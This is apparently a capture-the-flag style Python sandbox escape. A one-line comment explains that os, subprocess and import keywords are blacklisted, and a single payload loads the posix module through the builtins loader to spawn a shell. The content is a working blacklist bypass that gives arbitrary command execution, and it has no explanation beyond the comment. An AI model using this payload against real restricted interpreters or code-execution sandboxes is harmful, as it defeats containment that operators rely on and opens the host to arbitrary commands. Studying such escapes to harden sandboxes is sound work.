# restriction: os/subprocess/import words blacklisted; idea: the builtins module's __loader__ is BuiltinImporter, which loads posix directly
__builtins__.__loader__.load_module('posix').system('sh')
